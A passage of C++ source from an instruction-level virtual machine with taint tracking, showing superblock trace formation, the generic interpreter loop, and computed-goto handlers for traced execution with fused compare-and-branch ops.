                if (last)
                    o.dest = 0; // loop back to the entry SB_BB
                else
                    pendingLink = sb->ops.size();
                sb->ops.push_back(o);
                continue;
            }
            if (term && isControlTransfer(insn.op)) {
                // Trace-terminal stub: execute and leave the trace.
                switch (insn.op) {
                  case Opcode::Jmp:  o.handler = SB_XJMP; break;
                  case Opcode::Jz:   o.handler = SB_XJZ; break;
                  case Opcode::Jnz:  o.handler = SB_XJNZ; break;
                  case Opcode::Jl:   o.handler = SB_XJL; break;
                  case Opcode::Jge:  o.handler = SB_XJGE; break;
                  case Opcode::Call: o.handler = SB_XCALL; break;
                  case Opcode::CallSym: {
                    const auto &addrs = blk.img->importAddrs;
                    if ((size_t)insn.imm >= addrs.size())
                        return fail();
                    o.imm = (int32_t)addrs[insn.imm];
                    o.handler = SB_XCALLSYM;
                    break;
                  }
                  case Opcode::CallR: o.handler = SB_XCALLR; break;
                  case Opcode::Ret:   o.handler = SB_XRET; break;
                  case Opcode::Int80:
                    o.handler = SB_XSYSCALL;
                    sb->exitImg = blk.img;
                    break;
                  case Opcode::Halt:  o.handler = SB_XHALT; break;
                  default:
                    return fail();
                }
                sb->ops.push_back(o);
                continue;
            }

            // Body instruction (or a non-transfer final instruction
            // when the block runs off the end of text).
            switch (insn.op) {
              case Opcode::Nop:
                o.handler = SB_NOP;
                break;
              case Opcode::MovRR:
                o.handler = taint ? SB_MOVRR_T : SB_MOVRR;
                break;
              case Opcode::MovRI:
                if (taint) {
                    o.tag = binTag(blk.img);
                    o.handler = SB_MOVRI_T;
                } else {
                    o.handler = SB_MOVRI;
                }
                break;
              case Opcode::Lea:
                o.handler = taint ? SB_LEA_T : SB_LEA;
                break;
              case Opcode::Load:
                o.handler = taint ? SB_LOAD_T : SB_LOAD;
                break;
              case Opcode::LoadB:
                o.handler = taint ? SB_LOADB_T : SB_LOADB;
                break;
              case Opcode::Store:
                o.handler = taint ? SB_STORE_T : SB_STORE;
                break;
              case Opcode::StoreB:
                o.handler = taint ? SB_STOREB_T : SB_STOREB;
                break;
              case Opcode::Push:
                o.handler = taint ? SB_PUSH_T : SB_PUSH;
                break;
              case Opcode::PushI:
                if (taint) {
                    o.tag = binTag(blk.img);
                    o.handler = SB_PUSHI_T;
                    sawPushI = true;
                } else {
                    o.handler = SB_PUSHI;
                }
                break;
              case Opcode::Pop:
                o.handler = taint ? SB_POP_T : SB_POP;
                break;
              case Opcode::Add:
                o.handler = taint ? SB_ADD_T : SB_ADD;
                break;
              case Opcode::AddI:
                o.handler = SB_ADDI;
                break;
              case Opcode::Sub:
                o.handler = taint ? SB_SUB_T : SB_SUB;
                break;
              case Opcode::And:
                o.handler = taint ? SB_AND_T : SB_AND;
                break;
              case Opcode::Or:
                o.handler = taint ? SB_OR_T : SB_OR;
                break;
              case Opcode::Xor:
                o.handler = !taint ? SB_XOR
                            : insn.r1 == insn.r2 ? SB_XORZ_T
                                                 : SB_XOR_T;
                break;
              case Opcode::Mul:
                o.handler = taint ? SB_MUL_T : SB_MUL;
                break;
              case Opcode::Shl:
                o.handler = SB_SHL;
                break;
              case Opcode::Shr:
                o.handler = SB_SHR;
                break;
              case Opcode::Cmp:
                o.handler = SB_CMP;
                break;
              case Opcode::CmpI:
                o.handler = SB_CMPI;
                break;
              case Opcode::CpuId:
                if (taint) {
                    o.tag = tags_->single(
                        {taint::SourceType::Hardware,
                         taint::NO_RESOURCE});
                    o.handler = SB_CPUID_T;
                } else {
                    o.handler = SB_CPUID;
                }
                break;
              default:
                return fail(); // Native (noSb already) / unknown
            }
            sb->ops.push_back(o);
            if (term) {
                // Fell off decoded text: hand back to the generic
                // loop at the next pc, which faults exactly as the
                // interpreter always has.
                SbOp off;
                off.handler = SB_XFALLOFF;
                off.pc = o.pc + INSN_SIZE;
                sb->ops.push_back(off);
            }
        }
    }

    // Untainted specialization: if no shadow page exists, every
    // load provably yields EMPTY and every EMPTY store provably
    // goes nowhere — swap in propagation-free handlers guarded by
    // the materialization epoch (checked at entry) and per-store
    // deopt checks. PushI pushes a BINARY-tagged constant, which
    // would immediately materialize a stack page, so its presence
    // disqualifies the whole trace.
    if (taint && shadow_.empty() && !sawPushI) {
        for (SbOp &o : sb->ops)
            o.handler = specializeHandler(o.handler);
        sb->specialized = true;
        sb->shadowEpoch = shadow_.materializeEpoch();
    }

    fusePeepholes(sb->ops);

    entry.sb = std::move(sb);
    entry.heat = 0;
    ++stats_.superblocksFormed;
}

StepResult
Machine::step()
{
    uint64_t executed = 0;
    return run(1, executed);
}

StepResult
Machine::run(uint64_t budget, uint64_t &executed)
{
    executed = 0;
    if (halted_)
        return {StepKind::Halted, {}, nullptr, {}};

    // No trace frame is live here: traces retired since the last
    // entry (deopt, invalidation) can finally be released.
    retiredSbs_.clear();

    while (executed < budget) {
        if (pausedSb_) {
            // The previous quantum ran out mid-trace; re-enter at
            // the paused op. Guard order matters: the generation
            // check validates the raw pointer itself before any
            // dereference, the rest re-validate what the entry
            // guards proved (kernel redirects show up as an eip_ or
            // bbStart_ mismatch and fall back to the generic path).
            const Superblock *ps = pausedSb_;
            const uint32_t pop = pausedOp_;
            const uint32_t pbb = pausedBbPc_;
            pausedSb_ = nullptr;
            if (cacheGen_ == pausedGen_ && superblocks_ &&
                !insnHook_ && traceDepth_ == 0 && !bbStart_ &&
                ps->taintMode == trackTaint_ &&
                (!ps->specialized ||
                 shadow_.materializeEpoch() == ps->shadowEpoch) &&
                eip_ == ps->ops[pop].pc) {
                uint64_t sub = 0;
                StepResult r = runSuperblock(*ps, budget - executed,
                                             sub, pop, pbb);
                executed += sub;
                if (r.kind != StepKind::Ok)
                    return r;
                continue;
            }
            // Guard failed: restore the generic cursor the pause
            // skipped, so a mid-block eip_ resumes in place instead
            // of minting a duplicate block-cache entry. The cache
            // may be gone (generation mismatch) or eip_ redirected;
            // the null cursor then re-enters through enterBlock.
            auto it = blockCache_.find(pbb);
            if (it != blockCache_.end() && eip_ >= pbb &&
                eip_ < pbb + it->second.count * INSN_SIZE) {
                curBlock_ = &it->second;
                curOff_ = (eip_ - pbb) / INSN_SIZE;
            }
        }
        const uint32_t pc = eip_;
        // Cursor fast path: the next instruction of the current cached
        // block is exactly pc. Anything else (block entry, redirected
        // eip, invalidation) re-enters through the block cache.
        if (!curBlock_ || curOff_ >= curBlock_->count ||
            pc != curBlock_->startPc + curOff_ * INSN_SIZE) {
            curBlock_ = enterBlock(pc);
            curOff_ = 0;
            if (!curBlock_) {
                halted_ = true;
                faultMsg_ = "bad fetch at " + std::to_string(pc);
                return {StepKind::Fault, {}, nullptr, faultMsg_};
            }
        }

        // Trace-linking engine: acts only at true block entries, and
        // only when no per-instruction observer needs the generic
        // loop (the instruction hook and the trace ring see one
        // instruction at a time; traces retire them in batches).
        if (bbStart_ && curOff_ == 0 && superblocks_ &&
            !insnHook_ && traceDepth_ == 0) {
            if (recording_)
                recordArrival(pc, *curBlock_);
            CachedBlock *blk = curBlock_;
            if (blk->sb) {
                // Entry guards: the trace must match the current
                // taint mode, and a specialized trace is only valid
                // while its emptiness proof holds. Raw pointer: the
                // entry stays alive through deopt / invalidation
                // via retiredSbs_, so the hot path pays no atomic
                // refcount traffic.
                const Superblock *sb = blk->sb.get();
                if (sb->taintMode != trackTaint_ ||
                    (sb->specialized &&
                     shadow_.materializeEpoch() != sb->shadowEpoch)) {
                    ++stats_.superblockDeopts;
                    blk->sb.reset();
                    blk->heat = 0;
                } else {
                    uint64_t sub = 0;
                    StepResult r =
                        runSuperblock(*sb, budget - executed, sub, 0,
                                      sb->entryPc);
                    executed += sub;
                    // runSuperblock left the cursor consistent
                    // with eip_ (restored mid-block on a budget
                    // pause or deopt, re-resolved otherwise).
                    if (r.kind != StepKind::Ok)
                        return r;
                    continue;
                }
            } else if (!recording_ && !blk->noSb &&
                       ++blk->heat >= HOT_THRESHOLD) {
                recording_ = true;
                recordPcs_.clear();
                appendRecorded(pc, *blk);
            }
        }

        const uint64_t gen = cacheGen_;
        const LoadedImage *img = curBlock_->img;
        const Instruction *insn = &curBlock_->insns[curOff_];
        ++curOff_;

        if (bbStart_) {
            ++stats_.basicBlocks;
            if (instrumentor_)
                instrumentor_->basicBlock(*this, pc);
            bbStart_ = false;
        }

        if (insnHook_)
            instrumentor_->instruction(*this, *insn, pc);

        if (gen != cacheGen_) {
            // An instrumentor callback changed the image set
            // mid-step (loadImage or resetForExec):
            // invalidateBlockCache() nulled curBlock_ defensively,
            // and img/insn may alias storage resetForExec
            // destroyed. Re-resolve pc before touching either.
            curBlock_ = enterBlock(pc);
            curOff_ = 1;
            if (!curBlock_) {
                halted_ = true;
                faultMsg_ = "bad fetch at " + std::to_string(pc) +
                            " (image set changed mid-step)";
                return {StepKind::Fault, {}, nullptr, faultMsg_};
            }
            img = curBlock_->img;
            insn = &curBlock_->insns[0];
        }

        if (traceDepth_) {
            if (trace_.size() >= traceDepth_)
                trace_.pop_front();
            trace_.push_back({pc, *insn});
        }
        if (trackTaint_)
            propagate(*insn, pc, *img);

        ++stats_.instructions;
        ++executed;
        uint32_t next = pc + INSN_SIZE;

        switch (insn->op) {
          case Opcode::Halt:
            halted_ = true;
            eip_ = next;
            return {StepKind::Halted, {}, nullptr, {}};
          case Opcode::Nop:
            break;

          case Opcode::MovRR:
            setReg(insn->r1, reg(insn->r2));
            break;
          case Opcode::MovRI:
            setReg(insn->r1, (uint32_t)insn->imm);
            break;
          case Opcode::Lea:
            setReg(insn->r1, reg(insn->r2) + (uint32_t)insn->imm);
            break;
          case Opcode::Load:
            setReg(insn->r1, mem_.read32(reg(insn->r2) + (uint32_t)insn->imm));
            break;
          case Opcode::Store:
            mem_.write32(reg(insn->r2) + (uint32_t)insn->imm, reg(insn->r1));
            break;
          case Opcode::LoadB:
            setReg(insn->r1, mem_.read8(reg(insn->r2) + (uint32_t)insn->imm));
            break;
          case Opcode::StoreB:
            mem_.write8(reg(insn->r2) + (uint32_t)insn->imm,
                        (uint8_t)reg(insn->r1));
            break;

          case Opcode::Push:
            push32(reg(insn->r1), trackTaint_ ? regTag(insn->r1)
                                             : TagStore::EMPTY);
            break;
          case Opcode::PushI:
            push32((uint32_t)insn->imm,
                   trackTaint_ ? binaryTag(*img) : TagStore::EMPTY);
            break;
          case Opcode::Pop: {
            TagSetId tag = TagStore::EMPTY;
            uint32_t v = pop32(trackTaint_ ? &tag : nullptr);
            setReg(insn->r1, v);
            if (trackTaint_)
                setRegTag(insn->r1, tag);
            break;
          }

          case Opcode::Add:
            setReg(insn->r1, reg(insn->r1) + reg(insn->r2));
            break;
          case Opcode::AddI:
            setReg(insn->r1, reg(insn->r1) + (uint32_t)insn->imm);
            break;
          case Opcode::Sub:
            setReg(insn->r1, reg(insn->r1) - reg(insn->r2));
            break;
          case Opcode::And:
            setReg(insn->r1, reg(insn->r1) & reg(insn->r2));
            break;
          case Opcode::Or:
            setReg(insn->r1, reg(insn->r1) | reg(insn->r2));
            break;
          case Opcode::Xor:
            setReg(insn->r1, reg(insn->r1) ^ reg(insn->r2));
            break;
          case Opcode::Mul:
            setReg(insn->r1, reg(insn->r1) * reg(insn->r2));
            break;
          case Opcode::Shl:
            setReg(insn->r1, reg(insn->r1) << (insn->imm & 31));
            break;
          case Opcode::Shr:
            setReg(insn->r1, reg(insn->r1) >> (insn->imm & 31));
            break;

          case Opcode::Cmp: {
            uint32_t a = reg(insn->r1), b = reg(insn->r2);
            zf_ = (a == b);
            sf_ = ((int32_t)(a - b) < 0);
            break;
          }
          case Opcode::CmpI: {
            uint32_t a = reg(insn->r1), b = (uint32_t)insn->imm;
            zf_ = (a == b);
            sf_ = ((int32_t)(a - b) < 0);
            break;
          }

          case Opcode::Jmp:
            next = (uint32_t)insn->imm;
            break;
          case Opcode::Jz:
            if (zf_)
                next = (uint32_t)insn->imm;
            break;
          case Opcode::Jnz:
            if (!zf_)
                next = (uint32_t)insn->imm;
            break;
          case Opcode::Jl:
            if (sf_)
                next = (uint32_t)insn->imm;
            break;
          case Opcode::Jge:
            if (!sf_)
                next = (uint32_t)insn->imm;
            break;

          case Opcode::Call:
            push32(next, TagStore::EMPTY);
            next = (uint32_t)insn->imm;
            if (instrumentor_)
                instrumentor_->routineEnter(*this, next);
            break;
          case Opcode::CallSym: {
            const auto &addrs = img->importAddrs;
            if ((size_t)insn->imm >= addrs.size()) {
                halted_ = true;
                return {StepKind::Fault, {}, img, "bad import index"};
            }
            push32(next, TagStore::EMPTY);
            next = addrs[insn->imm];
            if (instrumentor_)
                instrumentor_->routineEnter(*this, next);
            break;
          }
          case Opcode::CallR:
            push32(next, TagStore::EMPTY);
            next = reg(insn->r1);
            if (instrumentor_)
                instrumentor_->routineEnter(*this, next);
            break;
          case Opcode::Ret:
            next = pop32();
            break;

          case Opcode::Int80:
            eip_ = next;
            bbStart_ = true;
            return {StepKind::Syscall, {}, img, {}};
          case Opcode::CpuId:
            // Deterministic pseudo processor identification words.
            setReg(Reg::Eax, 0x48544856); // "HTHV"
            setReg(Reg::Ebx, 0x756e6548);
            setReg(Reg::Ecx, 0x6c65746e);
            setReg(Reg::Edx, 0x49656e69);
            break;
          case Opcode::Native: {
            const auto &names = img->image->natives;
            if ((size_t)insn->imm >= names.size()) {
                halted_ = true;
                return {StepKind::Fault, {}, img, "bad native index"};
            }
            eip_ = next;
            return {StepKind::Native, names[insn->imm], img, {}};
          }
          default:
            halted_ = true;
            return {StepKind::Fault, {}, img, "bad opcode"};
        }

        if (isControlTransfer(insn->op))
            bbStart_ = true;
        eip_ = next;
    }
    return {};
}

//
// Superblock execution
//

/** Computed-goto (labels-as-values) dispatch where the compiler
 * supports it; the portable switch fallback otherwise. */
#if defined(__GNUC__) || defined(__clang__)
#define HTH_COMPUTED_GOTO 1
#endif

bool
Machine::threadedDispatch()
{
#ifdef HTH_COMPUTED_GOTO
    return true;
#else
    return false;
#endif
}

StepResult
Machine::runSuperblock(const Superblock &sb, uint64_t budget,
                       uint64_t &executed, uint32_t startOp,
                       uint32_t startBbPc)
{
    ++stats_.superblockEntries;
    const uint64_t gen0 = cacheGen_;
    const SbOp *const base = sb.ops.data();
    const SbOp *op = base + startOp;
    uint64_t n = 0;   //!< instructions retired in this entry
    uint64_t bbs = 0; //!< block boundaries crossed
    const bool taint = sb.taintMode;
    uint32_t *const R = regs_.data();
    TagSetId *const RT = regTags_.data();
    taint::ShadowMemory &sh = shadow_;
    GuestMemory &gm = mem_;
    TagStore &ts = *tags_;
    constexpr size_t ESP = (size_t)Reg::Esp;
    constexpr uint32_t SHPM = taint::ShadowMemory::PAGE_SIZE - 1;
    StepResult result{};
    bool deopt = false;
    bool resume = false;        //!< exiting at a mid-block pc
    uint32_t bbPc = startBbPc;  //!< start pc of the current block

/* Budget-exact prologue of every instruction-consuming handler:
 * the generic loop checks `executed < budget` before each
 * instruction, so a trace must stop on the exact same boundary
 * with eip_ parked on the unexecuted instruction. The pause is
 * remembered so the next run() can re-enter right here. */
#define SB_INSN()                                                   \
    do {                                                            \
        if (n == budget) {                                          \
            eip_ = op->pc;                                          \
            bbStart_ = false;                                       \
            resume = true;                                          \
            pausedSb_ = &sb;                                        \
            pausedOp_ = (uint32_t)(op - base);                      \
            pausedBbPc_ = bbPc;                                     \
            pausedGen_ = cacheGen_;                                 \
            goto sb_done;                                           \
        }                                                           \
        ++n;                                                        \
    } while (0)

#ifdef HTH_COMPUTED_GOTO
    static const void *const kLabels[] = {
#define HTH_SB_LABEL(name) &&lbl_##name,
        HTH_SB_HANDLERS(HTH_SB_LABEL)
#undef HTH_SB_LABEL
    };
#define SB_CASE(name) lbl_##name
#define SB_DISPATCH() goto *kLabels[op->handler]
#define SB_NEXT()                                                   \
    do {                                                            \
        ++op;                                                       \
        SB_DISPATCH();                                              \
    } while (0)
    SB_DISPATCH();
#else
#define SB_CASE(name) case name
#define SB_DISPATCH() goto sb_dispatch
#define SB_NEXT()                                                   \
    do {                                                            \
        ++op;                                                       \
        goto sb_dispatch;                                           \
    } while (0)
  sb_dispatch:
    switch (op->handler) {
#endif

    SB_CASE(SB_BB) : {
        // Block boundary: same accounting and callback the generic
        // loop performs at a basic-block entry, with the same
        // budget rule (the callback fires with the block's first
        // instruction, never before the budget allows it).
        if (n == budget) {
            eip_ = op->pc;
            bbStart_ = true;
            goto sb_done;
        }
        bbPc = op->pc;
        ++bbs;
        ++stats_.basicBlocks;
        if (instrumentor_) {
            eip_ = op->pc;
            instrumentor_->basicBlock(*this, op->pc);
            if (cacheGen_ != gen0) {
                // The callback changed the image set: this trace
                // may describe stale code. Resume generically at
                // the block body (its callback already fired).
                eip_ = op->pc;
                bbStart_ = false;
                goto sb_done;
            }
        }
        SB_NEXT();
    }
    SB_CASE(SB_NOP) : {
        SB_INSN();
        SB_NEXT();
    }
    SB_CASE(SB_MOVRR) : {
        SB_INSN();
        R[(size_t)op->r1] = R[(size_t)op->r2];
        SB_NEXT();
    }
    SB_CASE(SB_MOVRR_T) : {
        SB_INSN();
        RT[(size_t)op->r1] = RT[(size_t)op->r2];
        R[(size_t)op->r1] = R[(size_t)op->r2];
        SB_NEXT();
    }
    SB_CASE(SB_MOVRI) : {
        SB_INSN();
        R[(size_t)op->r1] = (uint32_t)op->imm;
        SB_NEXT();
    }
    SB_CASE(SB_MOVRI_T) : {
        SB_INSN();
        RT[(size_t)op->r1] = op->tag;
        R[(size_t)op->r1] = (uint32_t)op->imm;
        SB_NEXT();
    }
    SB_CASE(SB_LEA) : {
        SB_INSN();
        R[(size_t)op->r1] = R[(size_t)op->r2] + (uint32_t)op->imm;
        SB_NEXT();
    }
    SB_CASE(SB_LEA_T) : {
        SB_INSN();
        RT[(size_t)op->r1] = RT[(size_t)op->r2];
        R[(size_t)op->r1] = R[(size_t)op->r2] + (uint32_t)op->imm;
        SB_NEXT();
    }
    SB_CASE(SB_LOAD) : {
        SB_INSN();
        R[(size_t)op->r1] =
            gm.read32(R[(size_t)op->r2] + (uint32_t)op->imm);
        SB_NEXT();
    }
    SB_CASE(SB_LOAD_T) : {
        SB_INSN();
        const uint32_t ea = R[(size_t)op->r2] + (uint32_t)op->imm;
        RT[(size_t)op->r1] = sh.rangeUnion(ts, ea, 4);
        R[(size_t)op->r1] = gm.read32(ea);
        SB_NEXT();
    }
    SB_CASE(SB_LOAD_TE) : {
        SB_INSN();
        const uint32_t ea = R[(size_t)op->r2] + (uint32_t)op->imm;
        sh.noteEmptyReadSkips(1 + ((ea & SHPM) > SHPM - 3));
        RT[(size_t)op->r1] = TagStore::EMPTY;
        R[(size_t)op->r1] = gm.read32(ea);
        SB_NEXT();
    }
    SB_CASE(SB_LOADB) : {
        SB_INSN();
        R[(size_t)op->r1] =
            gm.read8(R[(size_t)op->r2] + (uint32_t)op->imm);
        SB_NEXT();
    }
    SB_CASE(SB_LOADB_T) : {
        SB_INSN();
        const uint32_t ea = R[(size_t)op->r2] + (uint32_t)op->imm;
        RT[(size_t)op->r1] = sh.get(ea);
        R[(size_t)op->r1] = gm.read8(ea);
        SB_NEXT();
    }
    SB_CASE(SB_LOADB_TE) : {
        SB_INSN();
        RT[(size_t)op->r1] = TagStore::EMPTY;
        R[(size_t)op->r1] =
            gm.read8(R[(size_t)op->r2] + (uint32_t)op->imm);
        SB_NEXT();
    }
    SB_CASE(SB_STORE) : {
        SB_INSN();
        gm.write32(R[(size_t)op->r2] + (uint32_t)op->imm,
                   R[(size_t)op->r1]);
        SB_NEXT();
    }
    SB_CASE(SB_STORE_T) : {
        SB_INSN();
        const uint32_t ea = R[(size_t)op->r2] + (uint32_t)op->imm;
        sh.setRange(ea, 4, RT[(size_t)op->r1]);
        gm.write32(ea, R[(size_t)op->r1]);
        SB_NEXT();
    }
    SB_CASE(SB_STORE_TE) : {
        SB_INSN();
        const uint32_t ea = R[(size_t)op->r2] + (uint32_t)op->imm;
        if (RT[(size_t)op->r1] != TagStore::EMPTY) {
            // Taint reached a specialized store: perform the
            // generic operation, then deoptimize the trace.
            sh.setRange(ea, 4, RT[(size_t)op->r1]);
            gm.write32(ea, R[(size_t)op->r1]);
            goto sb_deopt;
        }
        gm.write32(ea, R[(size_t)op->r1]);
        SB_NEXT();
    }
    SB_CASE(SB_STOREB) : {
        SB_INSN();
        gm.write8(R[(size_t)op->r2] + (uint32_t)op->imm,
                  (uint8_t)R[(size_t)op->r1]);
        SB_NEXT();
    }
    SB_CASE(SB_STOREB_T) : {
        SB_INSN();
        const uint32_t ea = R[(size_t)op->r2] + (uint32_t)op->imm;
        sh.set(ea, RT[(size_t)op->r1]);
        gm.write8(ea, (uint8_t)R[(size_t)op->r1]);
        SB_NEXT();
    }
    SB_CASE(SB_STOREB_TE) : {
        SB_INSN();
        const uint32_t ea = R[(size_t)op->r2] + (uint32_t)op->imm;
        if (RT[(size_t)op->r1] != TagStore::EMPTY) {
            sh.set(ea, RT[(size_t)op->r1]);
            gm.write8(ea, (uint8_t)R[(size_t)op->r1]);
            goto sb_deopt;
        }
        sh.noteEmptyWriteSkip(); // what set(ea, EMPTY) would count
        gm.write8(ea, (uint8_t)R[(size_t)op->r1]);
        SB_NEXT();
    }
    SB_CASE(SB_PUSH) : {
        SB_INSN();
        push32(R[(size_t)op->r1], TagStore::EMPTY);
        SB_NEXT();
    }
    SB_CASE(SB_PUSH_T) : {
        SB_INSN();
        push32(R[(size_t)op->r1], RT[(size_t)op->r1]);
        SB_NEXT();
    }
    SB_CASE(SB_PUSH_TE) : {
        SB_INSN();
        if (RT[(size_t)op->r1] != TagStore::EMPTY) {
            push32(R[(size_t)op->r1], RT[(size_t)op->r1]);
            goto sb_deopt;
        }
        const uint32_t v = R[(size_t)op->r1];
        const uint32_t esp = R[ESP] - 4;
        R[ESP] = esp;
        gm.write32(esp, v);
        SB_NEXT();
    }
    SB_CASE(SB_PUSHI) : {
        SB_INSN();
        push32((uint32_t)op->imm, TagStore::EMPTY);
        SB_NEXT();
    }
    SB_CASE(SB_PUSHI_T) : {
        SB_INSN();
        push32((uint32_t)op->imm, op->tag);
        SB_NEXT();
    }
    SB_CASE(SB_POP) : {
        SB_INSN();
        const uint32_t esp = R[ESP];
        const uint32_t v = gm.read32(esp);
        R[ESP] = esp + 4;
        R[(size_t)op->r1] = v;
        SB_NEXT();
    }
    SB_CASE(SB_POP_T) : {
        SB_INSN();
        TagSetId t = TagStore::EMPTY;
        const uint32_t v = pop32(&t);
        R[(size_t)op->r1] = v;
        RT[(size_t)op->r1] = t;
        SB_NEXT();
    }
    SB_CASE(SB_POP_TE) : {
        SB_INSN();
        const uint32_t esp = R[ESP];
        sh.noteEmptyReadSkips(1 + ((esp & SHPM) > SHPM - 3));
        const uint32_t v = gm.read32(esp);
        R[ESP] = esp + 4;
        R[(size_t)op->r1] = v;
        RT[(size_t)op->r1] = TagStore::EMPTY;
        SB_NEXT();
    }
    SB_CASE(SB_ADD) : {
        SB_INSN();
        R[(size_t)op->r1] += R[(size_t)op->r2];
        SB_NEXT();
    }
    SB_CASE(SB_ADD_T) : {
        SB_INSN();
        {
            // unite()'s trivial cases (equal and empty operands are
            // the overwhelming steady state) inline to a compare.
            const TagSetId a = RT[(size_t)op->r1];
            const TagSetId b = RT[(size_t)op->r2];
            if (a != b && b != TagStore::EMPTY)
                RT[(size_t)op->r1] =
                    (a == TagStore::EMPTY) ? b : ts.unite(a, b);
        }
        R[(size_t)op->r1] += R[(size_t)op->r2];
        SB_NEXT();
    }
    SB_CASE(SB_ADDI) : {
        SB_INSN();
        R[(size_t)op->r1] += (uint32_t)op->imm;
        SB_NEXT();
    }
    SB_CASE(SB_SUB) : {
        SB_INSN();
        R[(size_t)op->r1] -= R[(size_t)op->r2];
        SB_NEXT();
    }
    SB_CASE(SB_SUB_T) : {
        SB_INSN();
        {
            // unite()'s trivial cases (equal and empty operands are
            // the overwhelming steady state) inline to a compare.
            const TagSetId a = RT[(size_t)op->r1];
            const TagSetId b = RT[(size_t)op->r2];
            if (a != b && b != TagStore::EMPTY)
                RT[(size_t)op->r1] =
                    (a == TagStore::EMPTY) ? b : ts.unite(a, b);
        }
        R[(size_t)op->r1] -= R[(size_t)op->r2];
        SB_NEXT();
    }
    SB_CASE(SB_AND) : {
        SB_INSN();
        R[(size_t)op->r1] &= R[(size_t)op->r2];
        SB_NEXT();
    }
    SB_CASE(SB_AND_T) : {
        SB_INSN();
        {
            // unite()'s trivial cases (equal and empty operands are
            // the overwhelming steady state) inline to a compare.
            const TagSetId a = RT[(size_t)op->r1];
            const TagSetId b = RT[(size_t)op->r2];
            if (a != b && b != TagStore::EMPTY)
                RT[(size_t)op->r1] =
                    (a == TagStore::EMPTY) ? b : ts.unite(a, b);
        }
        R[(size_t)op->r1] &= R[(size_t)op->r2];
        SB_NEXT();
    }
    SB_CASE(SB_OR) : {
        SB_INSN();
        R[(size_t)op->r1] |= R[(size_t)op->r2];
        SB_NEXT();
    }
    SB_CASE(SB_OR_T) : {
        SB_INSN();
        {
            // unite()'s trivial cases (equal and empty operands are
            // the overwhelming steady state) inline to a compare.
            const TagSetId a = RT[(size_t)op->r1];
            const TagSetId b = RT[(size_t)op->r2];
            if (a != b && b != TagStore::EMPTY)
                RT[(size_t)op->r1] =
                    (a == TagStore::EMPTY) ? b : ts.unite(a, b);
        }
        R[(size_t)op->r1] |= R[(size_t)op->r2];
        SB_NEXT();
    }
    SB_CASE(SB_XOR) : {
        SB_INSN();
        R[(size_t)op->r1] ^= R[(size_t)op->r2];
        SB_NEXT();
    }
    SB_CASE(SB_XOR_T) : {
        SB_INSN();
        {
            // unite()'s trivial cases (equal and empty operands are
            // the overwhelming steady state) inline to a compare.
            const TagSetId a = RT[(size_t)op->r1];
            const TagSetId b = RT[(size_t)op->r2];
            if (a != b && b != TagStore::EMPTY)
                RT[(size_t)op->r1] =
                    (a == TagStore::EMPTY) ? b : ts.unite(a, b);
        }
        R[(size_t)op->r1] ^= R[(size_t)op->r2];
        SB_NEXT();
    }
    SB_CASE(SB_XORZ_T) : {
        // xor r,r zero idiom: constant result, taint cleared.
        SB_INSN();
        RT[(size_t)op->r1] = TagStore::EMPTY;
        R[(size_t)op->r1] = 0;
        SB_NEXT();
    }
    SB_CASE(SB_MUL) : {
        SB_INSN();
        R[(size_t)op->r1] *= R[(size_t)op->r2];
        SB_NEXT();
    }
    SB_CASE(SB_MUL_T) : {
        SB_INSN();
        {
            // unite()'s trivial cases (equal and empty operands are
            // the overwhelming steady state) inline to a compare.
            const TagSetId a = RT[(size_t)op->r1];
            const TagSetId b = RT[(size_t)op->r2];
            if (a != b && b != TagStore::EMPTY)
                RT[(size_t)op->r1] =
                    (a == TagStore::EMPTY) ? b : ts.unite(a, b);
        }
        R[(size_t)op->r1] *= R[(size_t)op->r2];
        SB_NEXT();
    }
    SB_CASE(SB_SHL) : {
        SB_INSN();
        R[(size_t)op->r1] <<= (op->imm & 31);
        SB_NEXT();
    }
    SB_CASE(SB_SHR) : {
        SB_INSN();
        R[(size_t)op->r1] >>= (op->imm & 31);
        SB_NEXT();
    }
    SB_CASE(SB_CMP) : {
        SB_INSN();
        const uint32_t a = R[(size_t)op->r1];
        const uint32_t b = R[(size_t)op->r2];
        zf_ = (a == b);
        sf_ = ((int32_t)(a - b) < 0);
        SB_NEXT();
    }
    SB_CASE(SB_CMPI) : {
        SB_INSN();
        const uint32_t a = R[(size_t)op->r1];
        const uint32_t b = (uint32_t)op->imm;
        zf_ = (a == b);
        sf_ = ((int32_t)(a - b) < 0);
        SB_NEXT();
    }

/* Fused compare-and-branch: both guest instructions retire in one
 * dispatch when two fit in the budget; on the budget edge only the
 * compare retires and the unfused branch op at the next index takes
 * over, so pause points stay instruction-exact. LINK is the
 * condition under which the recorded direction (dest) continues. */
#define SB_CMP_BR(NAME, BVAL, LINK)                                 \
    SB_CASE(NAME) : {                                               \
        if (budget - n >= 2) {                                      \
            n += 2;                                                 \
            const uint32_t a = R[(size_t)op->r1];                   \
            const uint32_t b = (uint32_t)(BVAL);                    \
            zf_ = (a == b);                                         \
            sf_ = ((int32_t)(a - b) < 0);                           \
            ++op;                                                   \
            if (LINK) {                                             \
                op = base + op->dest;                               \
                SB_DISPATCH();                                      \
            }                                                       \
            eip_ = op->exitPc;                                      \
            bbStart_ = true;                                        \
            goto sb_done;                                           \
        }                                                           \
        SB_INSN();                                                  \
        const uint32_t a = R[(size_t)op->r1];                       \
        const uint32_t b = (uint32_t)(BVAL);                        \
        zf_ = (a == b);                                             \
        sf_ = ((int32_t)(a - b) < 0);                               \
        SB_NEXT();                                                  \
    }

    SB_CMP_BR(SB_CMP_JZ_TAKEN, R[(size_t)op->r2], zf_)
    SB_CMP_BR(SB_CMP_JZ_FALL, R[(size_t)op->r2], !zf_)
    SB_CMP_BR(SB_CMP_JNZ_TAKEN, R[(size_t)op->r2], !zf_)
    SB_CMP_BR(SB_CMP_JNZ_FALL, R[(size_t)op->r2], zf_)
    SB_CMP_BR(SB_CMP_JL_TAKEN, R[(size_t)op->r2], sf_)
    SB_CMP_BR(SB_CMP_JL_FALL, R[(size_t)op->r2], !sf_)
    SB_CMP_BR(SB_CMP_JGE_TAKEN, R[(size_t)op->r2], !sf_)
    SB_CMP_BR(SB_CMP_JGE_FALL, R[(size_t)op->r2], sf_)
    SB_CMP_BR(SB_CMPI_JZ_TAKEN, op->imm, zf_)
    SB_CMP_BR(SB_CMPI_JZ_FALL, op->imm, !zf_)
    SB_CMP_BR(SB_CMPI_JNZ_TAKEN, op->imm, !zf_)
    SB_CMP_BR(SB_CMPI_JNZ_FALL, op->imm, zf_)
    SB_CMP_BR(SB_CMPI_JL_TAKEN, op->imm, sf_)
    SB_CMP_BR(SB_CMPI_JL_FALL, op->imm, !sf_)
    SB_CMP_BR(SB_CMPI_JGE_TAKEN, op->imm, !sf_)
